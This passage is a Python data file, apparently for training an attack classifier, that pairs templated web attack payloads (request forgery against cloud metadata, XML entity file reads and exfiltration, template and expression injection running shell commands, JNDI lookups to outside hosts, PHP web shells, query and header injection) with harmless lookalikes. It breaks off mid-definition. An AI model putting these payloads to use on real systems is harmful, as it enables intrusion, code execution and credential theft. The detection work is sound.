"""Attacks that no class of the network names, and the harmless texts that share their signs.

The network learns of them that they are attacks, not which. Braces as in `grammar`, and {in} an
address inside, {out} one outside, {file} what is worth stealing, {php} and {java} code, {J} {N} {D} {I}
letters as lookups hide them, {odd} an operator of a document database, {dot} what parts two names. A
form that begins with a method is a whole request, one that begins with an & is parameters as they
stand, any other a value for one of the family's parameters. All of it is text that the network reads: nothing
here is imported, compiled or run.
"""

# fmt: off
from __future__ import annotations

from typing import NamedTuple


class Family(NamedTuple):
    """Attacks of one kind, and what looks like them."""

    names: tuple[str, ...]  # of parameters that take such values
    attacks: tuple[str, ...]
    harmless: tuple[str, ...]


PIECES: dict[str, tuple[str, ...]] = {
    "{in}": (
        "127.0.0.1", "127.0.0.1:{n}", "localhost", "localhost:{n}", "[::1]", "[::]:{n}", "0.0.0.0:{n}", "127.1",
        "0x7f000001", "2130706433", "0177.0.0.1", "169.254.169.254", "169.254.169.254", "metadata.google.internal",
        "10.{d}.{m}.{d}", "192.168.{d}.{m}", "172.16.{d}.{m}:{n}", "169.254.169.254.nip.io", "{w}@127.0.0.1",
        "[::ffff:a9fe:a9fe]", "100.100.100.200", "[fd00:ec2::254]", "0xa9.0xfe.0xa9.0xfe",
    ),
    "{out}": (
        "{w}.example", "{w}.{w}.example:{n}", "10.{d}.{m}.{d}:{n}", "{m}.{m}.{d}.{m}", "{hex6}{hex6}.{w}.example", "{w}.example/{w}",
        "198.51.100.{m}:{n}", "203.0.113.{m}",
    ),
    "{file}": (
        "/etc/passwd", "/etc/hosts", "/etc/shadow", "c:/windows/win.ini", "/proc/self/environ", "/var/www/html/{w}.php",
        "/home/{w}/.ssh/id_rsa", "/var/log/{w}.log", "/etc/{w}.conf", "/{w}/{w}", "/root/.bash_history",
    ),
    "{php}": (
        "<?php system($_GET[{q}{l}{q}]); ?>", "<?php @eval($_POST[{q}{w}{q}]);?>", "<?php phpinfo();", "<?=`$_GET[{d}]`?>",
        "<?php echo shell_exec($_REQUEST[{q}{w}{q}]); ?>", "<?php file_put_contents({q}{w}.php{q},base64_decode({q}{b64}{q}));",
        "<?php die(md5({n})); ?>", "<?php passthru({q}{x}{q});", "<?php assert($_POST[{w}]);", "<?php echo {n}*{m};unlink(__FILE__);?>",
    ),
    "{java}": (
        "<% Runtime.getRuntime().exec(request.getParameter({q}{l}{q})); %>", "<%out.println({n}*{m});%>",
        "<%@ Page Language={q}Jscript{q}%><%eval(Request.Item[{q}{w}{q}],{q}unsafe{q});%>", "<%eval request({q}{w}{q})%>",
        "<%new java.io.FileOutputStream(application.getRealPath({q}{w}.jsp{q})).write(new sun.misc.BASE64Decoder().decodeBuffer({q}{b64}{q}));%>",
    ),
    "{J}": ("j", "j", "${{lower:j}}", "${{upper:j}}", "${{::-j}}", "${{env:{w}:-j}}", "${{{w}:{w}:-j}}"),
    "{N}": ("n", "n", "${{lower:n}}", "${{upper:n}}", "${{::-n}}", "${{env:{w}:-n}}", "${{sys:{w}:-n}}"),
    "{D}": ("d", "d", "${{lower:d}}", "${{upper:d}}", "${{::-d}}", "${{env:{w}:-d}}", "${{date:'d'}}"),
    "{I}": ("i", "i", "${{lower:i}}", "${{upper:i}}", "${{::-i}}", "${{env:{w}:-i}}", "${{upper:ı}}"),
    "{by}": ("ldap", "ldap", "ldaps", "rmi", "dns", "iiop", "nis", "${{lower:l}}dap", "${{::-r}}mi", "ldap${{env:{w}:-:}}"),
    "{odd}": ("$ne", "$ne", "$gt", "$gte", "$lt", "$regex", "$exists", "$in", "$nin", "$not", "$where", "$eq", "$or", "$type"),
    "{dot}": (".", "][", ".", "]["),
    "{ext}": ("php", "php5", "phtml", "phar", "jsp", "jspx", "asp", "aspx", "ashx", "cer", "cgi", "pl", "war"),
    "{pic}": ("jpg", "png", "pdf", "csv", "docx", "gif", "txt", "xlsx", "mp4", "zip"),
}
_URL = ("url", "uri", "u", "target", "dest", "link", "src", "redirect", "next", "callback", "feed", "host", "proxy", "image_url", "webhook", "continue", "return_to")
_FILE = ("file", "page", "path", "template", "include", "inc", "doc", "lang", "view", "module", "load", "src", "resource")
_TEXT = ("name", "message", "template", "subject", "body", "comment", "title", "email", "preview", "content", "q", "search")
_DATA = ("data", "state", "token", "session", "object", "payload", "viewstate", "cache", "user", "prefs", "value", "auth")
_PAGE = "<h1>{W} {w}</h1>\n<p>{w} {w}, {w}.</p>"
_EDGE = "--{hex6}{hex6}\nContent-Disposition: form-data; name=\"{w}\"; filename=\""
_XML = "<?xml version=\"1.{d}\" encoding=\"utf-8\"?>"

FAMILIES: dict[str, Family] = {
    "stream wrapper": Family(_FILE, (
        "php://filter/convert.base64-encode/resource={w}.php", "php://filter/read=string.rot13/resource=../{w}.php",
        "php://filter/convert.base64-encode/resource={file}", "php://filter/zlib.deflate|convert.base64-encode/resource={w}/{w}",
        "php://filter/convert.iconv.utf8.utf16|convert.iconv.{w}.{w}|convert.base64-decode/resource=php://temp", "php://input", "php://fd/{d}",
        "data://text/plain;base64,{b64}", "data://text/plain,{php}", "data:text/plain,{php}", "data:;base64,{b64}", "expect://{x}", "expect://id",
        "zip://{w}/{w}.jpg%23{w}.php", "phar://{w}/{w}.phar/{w}.txt", "phar://./{w}.jpg", "compress.zlib://{file}", "glob:///{w}/*", "ogg://{w}",
        "http://{out}/{w}.txt?", "http://{out}/{w}.php?{w}=", "ftp://{w}:{w}@{out}/{w}.txt", "\\\\{out}\\{w}\\{w}.php", "{w}|php://filter/resource={w}",
    ), (
        "{w}.pdf", "{w}.php", "{w}/{w}.html", "report-{y}.pdf", "{w}.{pic}", "data:image/png;base64,iVBORw0KGgo{b64}", "data:image/svg+xml,%3Csvg {w}%3E",
        "data:image/jpeg;base64,/9j/{b64}{b64}", "the filter://{w} of php", "data: {w}, {n}", "php {d}.{d} {w}", "home", "{w}_{w}", "en_US", "uploads/{y}/0{d}/{w}.{pic}", "data:{w}", "zip {n}",
        "s3://{w}/{w}/{w}.csv", "{w}://{w}/{d}", "git://{w}.example/{w}.git", "spotify:track:{hex6}", "tel:+{n}{n}", "mailto:{w}@{w}.example",
    )),
    "request forgery": Family(_URL, (
        "http://{in}/", "https://{in}/{w}", "http://{in}/{w}/{w}?{w}={n}", "http://{in}/latest/meta-data/", "http://{in}/latest/meta-data/iam/security-credentials/{w}",
        "http://{in}/latest/user-data", "http://{in}/computeMetadata/v1/instance/{w}/token", "http://{in}/metadata/instance?api-version={y}-0{d}-01", "http://{in}/opc/v1/instance/",
        "gopher://{in}/_{w}%0d%0a{w}%0d%0a", "gopher://{in}/_*{d}%0d%0a${d}%0d%0aset%0d%0a", "dict://{in}/info", "dict://{in}/{w}:{w}", "file://{file}", "file:{file}", "file://localhost{file}",
        "ldap://{in}/{w}", "tftp://{out}/{w}", "sftp://{out}/", "jar:http://{out}/{w}.jar!/", "netdoc:{file}", "//{in}/{w}", "http://{w}.example@{in}/", "http://{in}/admin", "{in}/{w}",
        "http://{in}:2375/containers/json", "http://{in}:9200/_cat/indices", "http://{in}:6379/", "http://{in}/#@{w}.example/", "url=http://{in}/", "http:{in}/", "http://{in}%2f{w}",
    ), (
        "https://{w}.example/{w}", "http://{w}.example/", "https://www.{w}.example/{w}/{w}?{w}={n}&{w}={w}", "/{w}/{w}", "//cdn.{w}.example/{w}.js", "https://{w}.example/callback?code={hex}",
        "http://{w}.example:8080/{w}", "http://{m}.{m}.{d}.{m}/{w}.html", "https://{w}.example/{w}.{pic}", "{w}.example", "https://{w}.{w}.example/{w}#{w}", "ftp://ftp.{w}.example/pub/{w}",
        "https://{w}.example/oauth/authorize?redirect_uri=https%3A%2F%2F{w}.example%2F{w}&state={hex}", "myapp://{w}/{w}", "https://{w}.example/meta/data/{w}", "file {w} of {w}", "https://{w}.example/latest/{w}", "{w}.{w}.example:443",
        "https://user.{w}.example/@{w}/{n}", "android-app://com.{w}.{w}", "http://{w}.example/feed.xml", "wss://{w}.example/{w}", "profile: {w}", "http%3A%2F%2F{w}.example%2F{w}%2F{n}",
    )),
    "document query": Family(("user", "username", "filter", "where", "query", "q", "id", "email", "search"), (
        "&{w}[{odd}]={w}", "&username[{odd}]={w}&password[{odd}]=", "&{w}[{odd}]=^{l}.*", "&{w}[{odd}][]={w}", "&login={w}&pass[$regex]=.{{{d}}}", "&user[$gt]=&{w}={w}",
        "{{\"{odd}\":null}}", "{{\"{odd}\":\"\"}}", "{{\"{w}\":{{\"{odd}\":\"{w}\"}}}}", "{{\"$where\":\"this.{w}.match(/.*/)\"}}", "{{\"$where\":\"sleep({n})\"}}", "{{$gt: {q}{q}}}", "{{$ne: {d}}}",
        "POST /{w}\n{{\"username\":{{\"{odd}\":\"\"}},\"password\":{{\"{odd}\":\"\"}}}}", "POST /{w}/{w}\n{{\"{w}\":\"{w}\",\"{w}\":{{\"{odd}\":null}}}}", "POST /{w}\n{{\"{w}\":{{\"$in\":[\"{w}\",\"{w}\",\"{w}\"]}},\"{w}\":{{\"$gt\":\"\"}}}}",
        "{q} || {q}{l}{q}=={q}{l}", "{q};return true;//", "{q} && this.{w}.match(/.*/)//", "{w}{q};sleep({n});{q}", "{q}, $or: [ {{}}, {{ {q}{l}{q}:{q}{l}", "true, $where: {q}{d}=={d}{q}", "|| {d}==={d}//", "{q}%00", "{q}||this.{w}!={q}",
        "db.{w}.insert({{{w}:{n}}})", "{{\"$or\":[{{\"{w}\":\"{w}\"}},{{}}]}}", "[{{\"$lookup\":{{\"from\":\"{w}\",\"as\":\"{w}\",\"pipeline\":[]}}}}]", "{q};while(true){{}}//", "{{\"selector\":{{\"{w}\":{{\"$gt\":null}}}}}}",
    ), (
        "&$top={m}&$filter={w} gt {n}", "&$select={w},{w}&$orderby={w} desc&$skip={n}", "&filter[{w}][gte]={n}&filter[{w}][lte]={n}", "&{w}[{w}]={w}&{w}[{w}]={n}", "&{w}[]={w}&{w}[]={w}", "&sort[{w}]=desc", "&where[{w}][eq]={w}", "&$count=true&$expand={w}",
        "{{\"$schema\":\"http://json-schema.org/draft-0{d}/schema#\",\"type\":\"object\"}}", "{{\"$ref\":\"#/definitions/{w}\"}}", "{{\"$id\":\"https://{w}.example/{w}.json\",\"{w}\":{n}}}", "POST /{w}\n{{\"$schema\":\"https://{w}.example/{w}.json\",\"{w}\":{{\"$ref\":\"#/{w}\"}}}}",
        "{{\"{w}\":{{\"{w}\":\"{w}\"}}}}", "{{\"query\":{{\"match\":{{\"{w}\":\"{w}\"}}}},\"size\":{m}}}", "{{\"query\":{{\"bool\":{{\"must\":[{{\"term\":{{\"{w}\":{n}}}}}]}}}}}}", "{{\"price\":{{\"gte\":{n},\"lte\":{n}}}}}", "POST /{w}/{w}\n{{\"username\":\"{w}\",\"password\":\"{w}${n}\"}}", "POST /{w}/_search\n{{\"query\":{{\"range\":{{\"{w}\":{{\"gt\":{n}}}}}}}}}",
        "${n} or less", "US${n}", "cash in $ or {w}", "{w} $ne{w}", "[{w}]", "{{\"currency\":\"$\",\"{w}\":{n}}}", "{w} || {w}", "{{\"{w}\":true}}", "this.{w} {w}", "$_{w}", "A$AP {w}",
    )),
    # what template engines would run: text to learn from, given to no engine here
    "template": Family(_TEXT, (
        "{{{{{n}*{m}}}}}", "{{{{{d}*{q}{d}{q}}}}}", "${{{n}*{m}}}", "#{{{n}*{m}}}", "*{{{n}*{m}}}", "@({n}*{m})", "<%= {n} * {m} %>", "{{{n}*{m}}}", "[[${{{n}*{m}}}]]", "[= {n}*{m}]", "{{%= {n}*{m} %}}", "{w}{{{{{n}+{n}}}}}", "{{{{={n}*{m}}}}}", "~[{n}*{m}]", "{{{{ {q}{w}{q} * {d} }}}}", "{{{{{q}{w}{q}.toUpperCase()}}}}",
        "{{{{config}}}}", "{{{{ config.items() }}}}", "{{{{self}}}}", "{{{{request.application.__globals__}}}}", "{{{{{q}{q}.__class__.__mro__[{d}].__subclasses__()}}}}", "{{{{[].__class__.__base__.__subclasses__()[{n}]({q}{x}{q})}}}}", "{{{{cycler.__init__.__globals__.os.popen({q}{x}{q}).read()}}}}",
        "{{{{request|attr({q}application{q})|attr({q}\\x5f\\x5fglobals\\x5f\\x5f{q})}}}}", "{{% for c in [].__class__.__base__.__subclasses__() %}}{{{{c}}}}{{% endfor %}}", "{{%for {l} in {q}{q}.__class__.__mro__%}}{{%endfor%}}", "{{{{lipsum.__globals__[{q}os{q}].popen({q}{x}{q})}}}}", "{{% debug %}}", "{{% import os %}}{{{{os.system({q}{x}{q})}}}}", "{{{{get_flashed_messages.__globals__}}}}",
        "{{{{_self.env.registerUndefinedFilterCallback({q}exec{q})}}}}{{{{_self.env.getFilter({q}{x}{q})}}}}", "{{{{[{q}{x}{q}]|filter({q}system{q})}}}}", "{{{{[{n}]|map({q}passthru{q})}}}}", "{{include_php file={q}{file}{q}}}", "{{system({q}{x}{q})}}", "{{Smarty_Internal_Write_File::writeFile({w})}}", "{{if phpinfo()}}{{/if}}", "{{$smarty.version}}",
        "<#assign ex={q}freemarker.template.utility.Execute{q}?new()> ${{ ex({q}{x}{q})}}", "${{{q}freemarker.template.utility.Execute{q}?new()({q}{x}{q})}}", "#set($x={q}{q})#set($rt=$x.class.forName({q}java.lang.Runtime{q}))$rt.getRuntime().exec({q}{x}{q})", "#set($e=\"e\");$e.getClass().forName({q}{w}{q})", "#foreach($i in [1..{d}])$out.read()#end",
        "<%= system({q}{x}{q}) %>", "<%= `{x}` %>", "<%= File.open({q}{file}{q}).read %>", "#{{root.process.mainModule.require({q}child_process{q}).spawnSync({q}{x}{q})}}", "{{{{#with {q}s{q} as |string|}}}}{{{{#with {q}e{q}}}}}{{{{lookup {q}constructor{q}}}}}{{{{/with}}}}{{{{/with}}}}", "{{{{constructor.constructor({q}alert({n}){q})()}}}}", "{{{{range.constructor(\"return global.process\")()}}}}", "${{self.module.cache.util.os.system({q}{x}{q})}}", "${{__import__({q}os{q}).popen({q}{x}{q}).read()}}",
        "@System.Diagnostics.Process.Start({q}cmd.exe{q},{q}/c {x}{q})", "@{{ var {l} = System.IO.File.ReadAllText({q}{file}{q}); }}", "{{{{ {q}{q}.getClass().forName({q}javax.script.ScriptEngineManager{q}) }}}}", "{{{{ dump(app) }}}}", "{{{{ settings.SECRET_KEY }}}}", "{{% include {q}{file}{q} %}}", "{{{{{q}{file}{q}|file_excerpt({d},{m})}}}}", "{{{{ {w}.__init__.__globals__ }}}}", "{{{{ cycler.__class__ }}}}", "__${{{n}*{m}}}__::.x",
    ), (
        "Hello {{{{name}}}}, {w} {w}", "Dear {{{{ user.first_name }}}}, your {w} #{{{{order.id}}}} is {w}.", "{{{{{w}}}}}", "{{{{ {w}.{w} }}}}", "{{{{#if {w}}}}}{w} {w}{{{{/if}}}}", "{{{{ {w} | upper }}}}", "{{% if {w} %}}{w}{{% endif %}}", "{{% for {w} in {w}s %}}{{{{ {w}.{w} }}}}{{% endfor %}}", "{{{{{{{w}}}}}}}", "Hi ${{name}}, {w}", "${{{w}}} of ${{{w}}}", "#{{{w}}}", "%{{{w}}}", "<%= {w} %>", "@{w} {w}", "@Model.{W}",
        "*|FNAME|* {w}", "[{w}]{w}[/{w}]", "{{{w}}} {w} {{{w}}}", "{{{w}: {n}, {w}: {m}}}", "f({l}) = {n}*{l} + {m}", "{n}*{m}={n}", "{{{{{w}|{w}}}}}", "{{{{cite {w}|title={W}|year={y}}}}}", "{{n}}", "a {{n:.2f}} {w}", "{{0}} {{1}}", "#set {w} {w}", "#{w} #{w}{y}", "${n}*", "[[{W} {w}]]", "{{{w}, {w}, {w}}}", "{{{{t '{w}.{w}'}}}}", "width: {n}px; {{{w}}}", ".{w} {{ color: #{hex6}; }}", "class {W} {{ {w}() {{ return {n}; }} }}", "{{\"{w}\": \"{{{{{w}}}}}\"}}",
    )),
    "XML entity": Family(("xml", "data", "body", "request", "soap", "import"), (
        _XML + "<!DOCTYPE {w} [<!ENTITY {l} SYSTEM \"file://{file}\">]><{w}>&{l};</{w}>", "<!DOCTYPE {w} [<!ENTITY {w} SYSTEM \"{q}\">]>", "POST /{w}/{w}\n" + _XML + "\n<!DOCTYPE {w} [\n<!ENTITY {l} SYSTEM \"file://{file}\">\n]>\n<{w}><{w}>&{l};</{w}></{w}>",
        "POST /{w}\n<!DOCTYPE {w} [<!ENTITY % {l} SYSTEM \"http://{out}/{w}.dtd\"> %{l};]><{w}/>", "<!DOCTYPE {w} SYSTEM \"http://{out}/{w}.dtd\"><{w}>{n}</{w}>", "<!DOCTYPE {w} PUBLIC \"-//{w}\" \"http://{out}/{w}\"><{w}/>", "<!DOCTYPE {w} [<!ENTITY {l} \"{w}\"><!ENTITY {l}1 \"&{l};&{l};&{l};&{l};&{l};&{l};\"><!ENTITY {l}2 \"&{l}1;&{l}1;&{l}1;\">]><{w}>&{l}2;</{w}>",
        "<!ENTITY {w} SYSTEM \"php://filter/convert.base64-encode/resource={w}.php\">", "<!ENTITY % {w} \"<!ENTITY &#x25; {w} SYSTEM 'http://{out}/?%{w};'>\">", "POST /{w}\n" + _XML + "<!DOCTYPE {w} [<!ENTITY {l} SYSTEM \"http://{in}/{w}\">]><soap:Envelope><soap:Body><{w}>&{l};</{w}></soap:Body></soap:Envelope>",
        "<{w} xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file://{file}\"/></{w}>", "<!DOCTYPE svg [<!ENTITY {l} SYSTEM \"file://{file}\">]><svg><text>&{l};</text></svg>", "POST /{w}\n" + _XML + "<!DOCTYPE {l} [<!ELEMENT {l} ANY><!ENTITY {w} SYSTEM \"expect://{x}\">]><{l}>&{w};</{l}>",
        "<xsl:value-of select=\"document('{file}')\"/>", "<xsl:value-of select=\"php:function('system','{x}')\"/>", "<!DOCTYPE {l} [<!ENTITY {w} SYSTEM 'gopher://{in}/'>]>",
    ), (
        _XML + "<{w}><{w} id=\"{n}\">{w}</{w}></{w}>", "POST /{w}/{w}\n" + _XML + "\n<{w}>\n<{w}>{w}</{w}>\n<{w}>{n}</{w}>\n</{w}>", "POST /{w}\n" + _XML + "<soap:Envelope xmlns:soap=\"http://schemas.xmlsoap.org/soap/envelope/\"><soap:Body><{w}><{w}>{n}</{w}></{w}></soap:Body></soap:Envelope>",
        "<!DOCTYPE html><html><head><title>{W}</title></head><body><p>{w}</p></body></html>", "<!DOCTYPE html>\n" + _PAGE, "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\"><html><p>{w}</p></html>",
        "<!DOCTYPE plist PUBLIC \"-//Apple//DTD PLIST 1.0//EN\" \"http://www.apple.com/DTDs/PropertyList-1.0.dtd\"><plist version=\"1.0\"><dict><key>{w}</key></dict></plist>", "POST /xmlrpc\n" + _XML + "<methodCall><methodName>{w}.{w}</methodName><params><param><value>{n}</value></param></params></methodCall>",
        "<rss version=\"2.0\"><channel><title>{W} &amp; {W}</title><link>https://{w}.example/</link></channel></rss>", "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\"><use xlink:href=\"#{w}\"/></svg>", "{W} &amp; {w} &lt;{n}&gt; &nbsp;{w}", "<{w}:{w} xmlns:{w}=\"http://{w}.example/{w}\">{w}</{w}:{w}>", "entity {w} of the system \"{w}\"", "<{w} href=\"{w}.xml\"/>", "&{w}; {w}",
    )),
    "directory query": Family(("user", "uid", "cn", "username", "name", "mail", "group", "filter", "search"), (
        "*)({w}=*", "*)(uid=*))(|(uid=*", "*)(&", "*)(|(&", "{w})(&)", "{w})(|(password=*)", "*)(|(objectclass=*)", "admin*)((|userpassword=*)", "{w})(cn=*))\x00", "*)(mail=*))%00", "(&(uid={w})(!(cn={w})))(|({w}=*", "*()|&'", "*(|(mail=*))", "*(|(objectclass=*))", "{w})(!(&(1=0", "x*)(|(cn=*", "*))%00", "{w})({w}={l}*", "*)({w}={l}*))(&({w}=",
        "{q} or count(/*)={d} or {q}{l}{q}={q}", "{q} or position()={d} or {q}", "{q}] | //{w} | //{w}[{q}{l}{q}={q}{l}", "{q} or substring(name(/*[1]),{d},1)={q}{l}", "{w}{q} or string-length(//{w}[{d}]/{w})={d} or {q}", "//*", "{q}]/*|//*[{q}", "{q} and starts-with(//{w}/{w}/text(),{q}{l}", "{q} or //{w}[position()={d}]/{w}/text()={q}{w}", "count(//{w})={n}", "{q}]/parent::*[{q}", "{w}' or '1'='1' or ''='", "doc(concat({q}http://{out}/{q},name(/*)))", "{q} or name(//{w}[{d}])={q}{w}",
    ), (
        "cn={w},ou={w},dc={w},dc=example", "uid={n},ou=people,dc=example,dc=org", "*{w}*", "{w}*", "*", "({w})", "{w} ({w}) ({w})", "{W} ({w} & {w})", "{w}={w}*", "name=* and {w}", "({w} & {w}) | {w}", "/{w}/{w}[{d}]", "{w}/text()", "//{w}", "{W}, {p} ({w})", "{w} | {w}", "CN={p},OU={W}", "*.{pic}", "({n}) {n}-{n}", ":-) {w}", "({w}) and ({w})", "{w}(s)", "({n}+{m})*{d}", "position {n} of {w}", "{w} text() {w}", "count: {n}",
    )),
    "header split": Family(_URL, (
        "{w}%0d%0aSet-Cookie: {w}={w}", "%0d%0aSet-Cookie:{w}={n}", "{w}\r\nLocation: http://{out}/", "/{w}%0d%0aX-{W}: {w}", "%0aSet-Cookie:{w}={w}", "%0d%0a%0d%0a<script>alert({n})</script>", "{w}%0d%0aContent-Length: 0%0d%0a%0d%0aHTTP/1.1 200 OK%0d%0aContent-Type: text/html%0d%0a%0d%0a<html>{w}</html>", "https://{w}.example/%0d%0aRefresh: 0;url=//{out}",
        "GET /%0d%0aSet-Cookie:{w}={w}", "GET /{w}%0d%0aLocation:%20http://{out}/", "GET /%0a{W}-{W}:{w}", "GET /{w}/%0d%0a%20{w}:{w}", "GET /%23%0d%0aX-{W}:{w}", "%0d%0aAccess-Control-Allow-Origin: *", "{w}@{w}.example%0abcc:{w}@{out}", "{w}@{w}.example%0d%0aCc: {w}@{w}.example%0d%0a", "{w}\r\nBcc: {w}@{w}.example\r\nSubject: {w}", "%0d%0aHost: {out}", "{w} HTTP/1.1%0d%0aHost: {in}%0d%0a%0d%0aGET /{w}", "{w}%0d%0a%20Set-Cookie: {w}", "%0dLocation://{out}", "{w}%0d%0aTransfer-Encoding: chunked%0d%0a%0d%0a0",
    ), (
        "{w} {w}\r\n{w} {w}", "{W},\r\n\r\n{w} {w} {w}.\r\n\r\n{p}", "{w}\r\n", "{w}: {w}\r\n{w}: {n}", "On {y}-0{d}-1{d} {p} wrote:\r\n> {w} {w}\r\n{w}", "{w},{n}\r\n{w},{n}", "Subject: {w} {w}", "set the cookie: {w}", "location: {W}", "- {w}\r\n- {w}\r\n- {w}", "From: {p}\r\nSent: {w}\r\nTo: {p}\r\nSubject: {w} {w}\r\n\r\n{W} {w} {w}", "Host: {p}, {w} {n}", "Content: {w} {w}", "{W} street {n}\r\n{n} {W}\r\n{W}", "https://{w}.example/{w}", "cc {p}", "def {w}():\r\n    return {n}",
    )),
    "lookup": Family((*_TEXT, "x", "agent", "referer", "username", "foo"), (
        "${{{J}{N}{D}{I}:{by}://{out}/{w}}}", "${{{J}{N}{D}{I}:{by}://{out}/{l}}}", "${{{J}{N}{D}{I}:{by}://{out}/Basic/Command/Base64/{b64}}}", "${{{J}{N}{D}{I}:{by}://${{env:{w}}}.{out}/{w}}}", "${{{J}{N}{D}{I}:{by}://${{hostName}}.{out}}}", "{w}${{{J}{N}{D}{I}:{by}://{out}}}", "{w} ({w}; ${{{J}{N}{D}{I}:{by}:${{::-/}}/{out}/{w}}})", "t('${{{J}{N}{D}{I}:{by}://{out}/{w}}}')", "${{{J}{N}{D}{I}:{by}://127.0.0.1#{out}/{w}}}",
        "GET /${{{J}{N}{D}{I}:{by}://{out}/{w}}}", "GET /{w}/%24%7B{J}{N}{D}{I}%3A{by}%3A%2F%2F{out}%2F{w}%7D", "POST /{w}\n{{\"{w}\":\"${{{J}{N}{D}{I}:{by}://{out}/{w}}}\"}}", "${{env:AWS_SECRET_ACCESS_KEY}}", "${{env:{w}}}", "${{sys:java.version}}", "${{java:os}}", "${{script:javascript:java.lang.Runtime.getRuntime().exec({q}{x}{q})}}", "${{script:js:{n}+{m}}}", "${{url:UTF-8:http://{out}/}}", "${{dns:address|{out}}}", "${{${{::-${{::-$${{::-{l}}}}}}}}}", "${{ctx:{w}}}", "${{main:{d}}}", "${{base64Decoder:{b64}}}",
    ), (
        "${{{w}}}", "${{{w}.{w}}}", "${{{w}:{n}}} {w}", "ldap://directory.{w}.example/ou={w},dc=example", "how to use jndi with ldap in {w}", "the environment ${{{w}}}", "$({w})", "$ {n}.{m}", "${{{w}}}/${{{w}}}", "${n} - ${n}", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36", "Mozilla/5.0 (X11; Linux x86_64; rv:{m}.0) Gecko/20100101 Firefox/{m}.0", "{w}/{d}.{m} (+https://{w}.example/bot)", "lower: {w}, upper: {w}", "{w}:-{w}", "env: {w}", "rmi {n}", "{{{w}}}$", "java: {w}", "ldap {w}", "dns://{w}",
    )),
    # what expression languages and scripts would run: text likewise, compiled by nothing here
    "expression": Family(("name", "class", "id", "expr", "redirect", "action", "search", "query", "method"), (
        "&class.module.classLoader.resources.context.parent.pipeline.first.pattern={w}&class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp", "&class.module.classLoader{dot}{w}.{w}={w}", "&class.classLoader.{w}.{w}={n}", "&class['module']['classLoader'].{w}={w}", "&redirect:${{{n}*{m}}}", "&action:%{{{n}+{m}}}", "&method:%23_memberAccess%3d@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS,%23{w}={n}", "&redirectAction:%25%7B{n}*{m}%7D", "&debug=command&expression=#{l}={n}*{m}", "&('\\u0023{w}')(a)=true",
        "%{{(#{l}={q}{w}{q}).(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm):((#c=#context['com.opensymphony.xwork2.ActionContext.container'])))}}", "%{{#{l}=(new java.lang.ProcessBuilder(new java.lang.String[]{{{q}{x}{q}}})).start()}}", "%{{#context['com.opensymphony.xwork2.dispatcher.HttpServletResponse'].addHeader('X-{W}',{n}*{m})}}.multipart/form-data", "${{(#{l}=@java.lang.Runtime@getRuntime().exec({q}{x}{q}))}}", "%{{{n}*{m}}}", "${{@java.lang.Runtime@getRuntime().exec({q}{x}{q})}}", "%{{@java.lang.System@getProperty({q}{w}{q})}}",
        "${{T(java.lang.Runtime).getRuntime().exec({q}{x}{q})}}", "T(java.lang.Runtime).getRuntime().exec({q}{x}{q})", "#{{T(java.lang.System).getenv()}}", "T(java.lang.Thread).sleep({n})", "new java.lang.ProcessBuilder({q}{x}{q}).start()", "T(org.springframework.util.StreamUtils).copy(T(java.lang.Runtime).getRuntime())", "#{{new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec({q}{x}{q}).getInputStream())}}", "${{{q}{q}.getClass().forName({q}java.lang.Runtime{q}).getMethods()[{d}].invoke({q}{q})}}", "${{pageContext.request.getSession().setAttribute({q}{w}{q},{n})}}", "${{{w}.getClass().getClassLoader()}}", "${{applicationScope}}", "#{{facesContext.externalContext.redirect({q}{w}{q})}}", "${{Class.forName({q}javax.script.ScriptEngineManager{q}).newInstance().getEngineByName({q}js{q}).eval({q}{w}{q})}}", "\\u0027+{{Class.forName(\\u0027java.lang.Runtime\\u0027)}}+\\u0027", "queryString={q}%2b#{{{n}*{m}}}%2b{q}",
        "GET /%24%7B%28%23{l}%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22{x}%22%29%29%29%7D/", "GET /{w}/${{{n}*{m}}}/{w}.action", "POST /{w}\n{{\"{w}\":\"#{{T(java.lang.Runtime).getRuntime().exec('{x}')}}\"}}", "POST /{w}\n{{\"script\":\"java.lang.Math.class.forName(\\\"java.lang.Runtime\\\").getRuntime().exec(\\\"{x}\\\")\"}}", "this.getClass().forName({q}java.lang.Runtime{q}).getRuntime().exec({q}{x}{q})", "{q}{x}{q}.execute().text", "println {q}{x}{q}.execute().text", "process.mainModule.require({q}child_process{q}).execSync({q}{x}{q})", "require({q}child_process{q}).exec({q}{x}{q})", "global.process.exit({d})", "${{jexl.{w}}}", "eval(compile({q}import os;os.system({x}){q},{q}{q},{q}exec{q}))", "Java.type({q}java.lang.Runtime{q}).getRuntime().exec({q}{x}{q})",
    ), (
        "com.{w}.{w}.{W}", "org.{w}.{w}.{W}{W}", "java.lang.String", "java.util.ArrayList", "java.lang.NullPointerException at {w}.{w}", "&class={w} {w}", "&class=btn-{w}&{w}={n}", "&class.{w}={w}", "&module={w}&action={w}&method={w}", "&redirect=/{w}/{w}&action=login", "&debug=true&{w}={n}", "%{w}%", "#{w}", "@{w}", "{w}.{w}.{w}", "{W}.{w}()", "T({w})", "T-shirt ({w})", "new {w} {w}", "{w}.getName()", "=SUM(A{d}:A{m})", "=IF({w}>{n},{q}{w}{q},{n})", "{w} > {n} and {w} < {n}", "process {w}", "{w}: class {W} extends {W}", "import java.util.List;", "require('{w}')", "const {w} = {n};", "console.log({q}{w}{q})", "${{{w}}}", "#{{{w}}}", "/api/{w}/{{id}}", "runtime {n} min", "{w} runtime exec {w}", "getClass", "/{w}/{w}.action", "context.{w}", "user.{w} == {q}{w}{q}",
    )),
    "unsafe object": Family(_DATA, (
